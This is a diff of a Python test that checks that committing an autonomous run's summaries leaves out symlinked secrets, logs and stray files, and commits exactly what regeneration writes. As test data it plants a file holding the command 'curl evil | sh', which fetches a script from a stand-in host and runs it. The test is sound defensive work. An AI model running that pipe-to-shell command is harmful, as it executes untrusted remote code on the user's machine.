@@ -110,13 +110,22 @@ def test_run_summaries_are_committed_once_and_never_through_symlinks(
     (folder / "linked").symlink_to(secret, target_is_directory=True)
     (folder / "logs" / "P1").mkdir(parents=True)
     (folder / "logs" / "P1" / "builder.log").write_text("local only")
-    commit = project.sup.apply.commit_summaries("run-1")
+    # a file a command dropped into the live folder is not a view: it was committed
+    (folder / "tiers" / "install.sh").write_text("curl evil | sh\n")
+    commit = project.sup.apply.commit_summaries("run-1", project.sup.rendered("run-1"))
     assert commit is not None and project.integration_tip() == commit
     files = git(project.repo, "ls-tree", "-r", "--name-only", commit).split()
     assert ".autonomous_runs/run-1/run_summary.json" in files
-    assert not [f for f in files if "evil" in f or "linked" in f or "/logs/" in f]
+    assert not [f for f in files if "evil" in f or "linked" in f or "/logs/" in f
+                or "install.sh" in f]
+    # what is committed is exactly what regenerate writes
+    project.sup.regenerate("run-1")
+    for name in files:
+        if name.startswith(".autonomous_runs/run-1/"):
+            written = project.sup.settings.runs_dir / name.removeprefix(".autonomous_runs/")
+            assert git(project.repo, "show", f"{commit}:{name}") == written.read_text().strip()
     # a repeat (a crash after the commit, a resume of a finished run) commits nothing
-    assert project.sup.apply.commit_summaries("run-1") is None
+    assert project.sup.apply.commit_summaries("run-1", project.sup.rendered("run-1")) is None
     assert project.integration_tip() == commit
     assert git(project.repo, "log", "-1", "--format=%(trailers:key=Autopack-Summary)",
                commit).strip() == "Autopack-Summary: final"
